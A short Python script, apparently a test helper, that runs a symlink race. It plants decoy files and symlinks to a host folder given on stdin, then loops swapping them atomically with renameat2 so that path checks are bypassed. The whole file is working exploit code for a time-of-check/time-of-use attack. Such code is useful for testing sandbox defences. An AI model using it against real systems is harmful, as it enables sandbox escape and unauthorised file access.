"""Exchange a folder and a link to the host's folder as fast as possible, so that a check never matches a use."""

import ctypes
import json
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
outside = json.load(sys.stdin)["folder"]
for name in ("now", "deep/now"):
    os.makedirs(name)
    with open(f"{name}/data", "w") as file:
        file.write("harmless")
os.symlink(outside, "away")
os.symlink(f"{outside}/data", "file_away")
with open("file", "w") as file:
    file.write("harmless")
print("TRIED", flush=True)
with open("ready", "w"):
    pass
while True:
    libc.renameat2(-100, b"now", -100, b"away", 2)
    libc.renameat2(-100, b"file", -100, b"file_away", 2)
    libc.renameat2(-100, b"deep/now", -100, b"away", 2)
